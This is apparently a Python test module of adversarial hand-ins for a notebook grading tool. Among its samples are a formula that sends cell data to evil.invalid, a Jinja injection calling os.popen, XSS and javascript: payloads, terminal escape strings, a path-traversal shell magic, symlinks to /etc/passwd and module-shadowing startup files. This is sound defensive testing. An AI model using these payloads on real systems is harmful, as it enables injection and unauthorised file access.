"""More hand-ins, as somebody would make them who wants to break the coach's day."""

import hashlib
import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

from tests.grading.spoil import (
    CODE,
    SCRIPT,
    STEM,
    Spoil,
    a_folder,
    answers,
    cell,
    fifo,
    link,
    notebook,
    raw,
    sealed,
)  # fmt: skip

ESCAPE = "\x1b]0;owned\x07\x1b[2J\x1b[31m\u202egnp.exe\u200b\x00\x9b1m"
FORMULA = '=HYPERLINK("http://evil.invalid?x="&A1,"click")'
JINJA = "{{ cycler.__init__.__globals__.os.popen('id').read() }}{% raw %}{%"
HALF = "half an emoji \ud83d and \udc00"
NAUGHTY = "\n".join((SCRIPT, ESCAPE.replace("\x00", ""), FORMULA, JINJA, HALF, "$x$"))
Change = Callable[[dict[str, Any]], None]


def _cells(**change: Any) -> Change:
    def spoil(book: dict[str, Any]) -> None:
        for one in book["cells"]:
            one.update(change)

    return spoil


def _meta(**change: Any) -> Change:
    return lambda book: book["metadata"].update(change)


def _more(*cells: dict[str, Any]) -> Spoil:
    return notebook(
        lambda book: book["cells"].extend({"metadata": {}} | c for c in cells)
    )


def _text(text: str) -> Spoil:
    def spoil(book: dict[str, Any]) -> None:
        cell(book, "charter")["source"] = text
        book["cells"].append({"cell_type": "markdown", "metadata": {}, "source": text})

    return notebook(spoil)


def _outputs(book: dict[str, Any]) -> None:
    data = {
        "application/javascript": "window.pwned = 1",
        "application/vnd.jupyter.widget-view+json": {"model_id": "x"},
        "image/svg+xml": f"<svg onload='window.pwned=1'>{SCRIPT}</svg>",
        "text/html": f"<iframe srcdoc='{SCRIPT}'></iframe>",
        "text/latex": r"$\href{javascript:alert(1)}{x}$",
        "text/markdown": "[x](javascript:window.pwned=1)",
    }
    shown = {"output_type": "display_data", "metadata": {}, "data": data}
    for one in book["cells"]:
        if one["cell_type"] == "code":
            one["outputs"] = [shown, {**shown, "output_type": "execute_result"}]
    state = {"x": {"model_name": "HTMLModel", "state": {"value": SCRIPT}}}
    kind = "application/vnd.jupyter.widget-state+json"
    book["metadata"]["widgets"] = {kind: {"version_major": 2, "state": state}}


def _attachments(book: dict[str, Any]) -> None:
    svg = {"image/svg+xml": "PHN2ZyBvbmxvYWQ9J3dpbmRvdy5wd25lZD0xJy8+"}
    for one in book["cells"]:
        if one["cell_type"] == "markdown":
            one["attachments"] = {"x.svg": svg}
            one["source"] += "\n![x](attachment:x.svg)"


def _nested(depth: int) -> Spoil:
    deep = b"[" * depth + b"]" * depth
    body = b'{"cell_type": %b, "metadata": {"nbgrader": %b}, "source": %b}'
    return raw(b'{"nbformat": 4, "cells": [' + body % (deep, deep, deep) + b"]}")


def _twice(folder: Path) -> None:
    path = folder / f"{STEM}.ipynb"
    text = path.read_text("utf-8").rstrip()
    path.write_text(text[:-1] + ', "cells": 3, "cells": [{}]}', "utf-8")


def _forged_ledger(folder: Path) -> None:
    """Claim that the notebook was made by the coach's side, in a file too large."""
    notebook(_cells(source=CODE))(folder)
    digest = hashlib.sha256((folder / f"{STEM}.ipynb").read_bytes()).hexdigest()
    claim = json.dumps({digest: []}).encode()
    (folder / "made.json").write_bytes(claim + b" " * 21_000_000)


def _both(*spoils: Spoil) -> Spoil:
    def spoil(folder: Path) -> None:
        for one in spoils:
            one(folder)

    return spoil


def _names(*names: bytes) -> Spoil:
    """Links, since a link is named in the line about the learner."""

    def spoil(folder: Path) -> None:
        for name in names:
            (folder / os.fsdecode(name)).symlink_to("/etc/passwd")

    return spoil


def _files(count: int) -> Spoil:
    def spoil(folder: Path) -> None:
        for number in range(count):
            (folder / f"{number:06d}.txt").touch()

    return spoil


def _elsewhere(folder: Path) -> None:
    shutil.rmtree(folder)
    folder.symlink_to(f"../untouched/{STEM}")


def _person_elsewhere(folder: Path) -> None:
    shutil.rmtree(folder.parent)
    folder.parent.symlink_to("untouched")


def _startup(folder: Path) -> None:
    for name in ("ipython_config.py", "nbgrader_config.py", "conftest.py", "numpy.py",
                 "IPython.py", "ipykernel.py", "nbformat.py", "typing.py"):  # fmt: skip
        (folder / name).write_text(CODE, "utf-8")
    (folder / "x.pth").write_text("import os; os.environ['OWNED'] = '1'", "utf-8")
    (folder / "_ctypes.so").write_bytes(b"\x7fELF")


def _me(id: object) -> Spoil:
    return sealed(lambda all: all["learner.me"]["value"].update(id=id))


def _item(name: str, change: Callable[[Any], Any]) -> Spoil:
    def spoil(all: dict[str, Any]) -> None:
        for key, one in all.items():
            if key.startswith(f"purpose.{name}"):
                one["value"] = change(one["value"])

    return sealed(spoil)


def _charter(text: str) -> Spoil:
    return _item("charter", lambda v: {**v, "text": {**v["text"], "because": text}})


def _at(when: object) -> Spoil:
    def spoil(all: dict[str, Any]) -> None:
        for one in all.values():
            one["at"] = when

    return sealed(spoil)


def _put(text: bytes) -> Spoil:
    """Bytes of JSON as one answer more, as no program of ours would write them."""

    def spoil(folder: Path) -> None:
        path = folder / "answers.json"
        start = b'"answers": {'
        extra = start + b'"purpose.more": {"at": 1, "value": ' + text + b"},"
        path.write_bytes(path.read_bytes().replace(start, extra))

    return spoil


def _keys(count: int) -> Spoil:
    extra = {f"purpose.more.x{n}": {"at": 1, "value": n} for n in range(count)}
    return sealed(lambda all: all.update(extra))


MORE: dict[str, tuple[str, Spoil]] = {
    # the notebook
    "nbformat_5": ("full", notebook(lambda b: b.update(nbformat=5, nbformat_minor=9))),
    "nested_900_deep": ("full", _nested(900)),
    "nested_100_deep": ("full", _nested(100)),
    "three_hundred_thousand_keys": (
        "full",
        notebook(_meta(**{f"k{n}": n for n in range(300_000)})),
    ),
    "a_number_of_5000_digits": ("full", raw(b'{"cells": ' + b"9" * 5000 + b"}")),
    "not_a_number": ("full", notebook(_cells(execution_count=float("nan")))),
    "cells_named_twice": ("full", _twice),
    "with_a_byte_order_mark": ("full", raw(b"\xef\xbb\xbf{}")),
    "a_zip_that_says_notebook": ("full", raw(b"PK\x03\x04" + b"\x00" * 100)),
    "cell_ids_of_100000_letters": ("full", notebook(_cells(id="x" * 100_000))),
    "cell_types_unknown": ("full", notebook(_cells(cell_type="virus"))),
    "tags_that_are_ours": ("full", notebook(_cells(metadata={"tags": ["pdpmo-sent"]}))),
    "grade_ids_are_lists": (
        "full",
        notebook(_cells(metadata={"nbgrader": {"grade_id": ["board"]}})),
    ),
    "all_cells_are_one_question": (
        "full",
        notebook(_cells(metadata={"nbgrader": {"grade_id": "board", "grade": True}})),
    ),
    "outputs_that_run": ("full", notebook(_outputs)),
    "attachments_with_script": ("full", notebook(_attachments)),
    "raw_cell_of_html": (
        "full",
        _more(
            {"cell_type": "raw", "source": SCRIPT, "metadata": {"format": "text/html"}}
        ),
    ),
    "style_that_covers_all": (
        "full",
        _text("<style>@import url(http://evil.invalid/x.css);*{display:none}</style>"),
    ),
    "page_that_turns_away": (
        "full",
        _text('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ),
    "words_of_a_template": ("full", _text(JINJA)),
    "words_that_steer_a_terminal": ("full", _text(ESCAPE)),
    "half_characters": ("full", _text(HALF)),
    "a_million_lines": ("full", _text("\n" * 1_000_000)),
    "backslashes_without_end": ("full", _text("\\" * 100_000 + "`" * 100_000)),
    "shell_and_magic": ("full", notebook(_cells(source="!touch ../../../owned.txt"))),
    # the files
    "made_json_is_a_pipe": (
        "full",
        _both(notebook(_cells(source=CODE)), fifo("made.json")),
    ),
    "made_json_is_a_folder": (
        "full",
        _both(notebook(_cells(source=CODE)), a_folder("made.json")),
    ),
    "made_json_is_a_link": ("full", link("made.json", "/dev/zero")),
    "made_json_is_forged": ("full", _forged_ledger),
    "names_that_steer_a_terminal": (
        "full",
        _names(
            ESCAPE.replace("\x00", "").encode(), b"two\nlines: 50 points", b"\xff\xfe"
        ),
    ),
    "names_of_255_letters": ("full", _names(b"x" * 255, b"y" * 251 + b".txt")),
    "names_that_differ_in_form_only": (
        "full",
        _both(raw(b"1", "re\u0301sume\u0301.txt"), raw(b"2", "r\u00e9sum\u00e9.txt")),
    ),
    "names_that_differ_in_case_only": (
        "full",
        _both(
            raw(b"{", "Answers.json"),
            raw(b"{", "ANSWERS.JSON"),
            raw(b"", f"{STEM.upper()}.IPYNB"),
            raw(b"x", "TIMESTAMP.TXT"),
        ),
    ),
    "names_of_devices": ("full", _both(raw(b"1", "CON"), raw(b"2", "nul.json"))),
    "two_thousand_files": ("full", _files(2_000)),
    "files_that_start_a_kernel": ("full", _startup),
    "folder_leads_to_another_learner": ("nothing", _elsewhere),
    "person_leads_to_another_learner": ("nothing", _person_elsewhere),
    # the time
    "time_before_time": ("full", raw(b"0001-01-01 00:00:00 +2300", "timestamp.txt")),
    "time_after_time": ("full", raw(b"9999-12-31 23:59:59 -2300", "timestamp.txt")),
    "time_in_1969": ("full", raw(b"1969-12-31 23:59:59 UTC", "timestamp.txt")),
    "time_in_weeks": ("full", raw(b"2026-W01-1", "timestamp.txt")),
    "time_in_2099": ("full", raw(b"2099-01-01 00:00:00 UTC", "timestamp.txt")),
    "time_of_20_mb": (
        "full",
        raw(
            b"2026-12-01 10:00:00 UTC" + b" " * 77 + b"x" * 19_000_000, "timestamp.txt"
        ),
    ),
    "time_with_a_tail": (
        "full",
        raw(b"2026-12-01 10:00:00 UTC" + b" " * 77 + b"\xff", "timestamp.txt"),
    ),
    # the answers
    "answers_are_a_list": ("nothing", raw(b"[]", "answers.json")),
    "answers_are_not_a_number": ("nothing", raw(b"NaN", "answers.json")),
    "answers_hold_infinity": ("nothing", _put(b"Infinity")),
    "answers_hold_1e999": ("nothing", _put(b"1e999")),
    "answers_hold_5000_digits": ("nothing", _put(b"9" * 5000)),
    "answers_hold_a_deep_one": ("nothing", _put(b"[" * 500 + b"]" * 500)),
    "answers_hold_a_name_twice": ("nothing", _put(b'{"a": 1, "a": 2}')),
    "answers_name_all_twice": (
        "nothing",
        _put(b'1}, "purpose.more": {"at": 1, "value": 2'),
    ),
    "answers_with_20000_more": ("full", _keys(20_000)),
    "answers_with_a_new_digest": ("full", sealed(lambda all: None)),
    "answers_from_the_year_9999": ("full", _at(253_370_764_800_000)),
    "answers_from_before_1970": ("nothing", _at(-1)),
    "answers_at_half_past": ("nothing", _at(1.5)),
    "answers_at_true": ("nothing", _at(True)),
    "answers_reset_tomorrow": ("nothing", answers(lambda a: a.update(reset=10**15))),
    "answers_of_revision_2_to_53": ("full", answers(lambda a: a.update(rev=2**53))),
    "answers_of_a_classmate": ("own_words_only", _me("untouched")),
    "answers_whose_id_is_a_list": ("own_words_only", _me(["ada"])),
    "answers_whose_id_steers_a_terminal": ("own_words_only", _me(ESCAPE)),
    "charter_with_all_of_it": ("full", _charter(NAUGHTY)),
    "charter_of_200_kb": ("charter_too_long", _charter("Because " * 25_000)),
    "charter_is_a_number": ("no_charter", _item("charter", lambda v: 7)),
    "board_holds_true": ("board_unplayed", _item("board", lambda v: True)),
    "board_of_huge_numbers": (
        "board_unplayable",
        _item("board", lambda v: {**v, "steps": [{"do": 2**53, "who": -(2**53)}] * 50}),
    ),
}
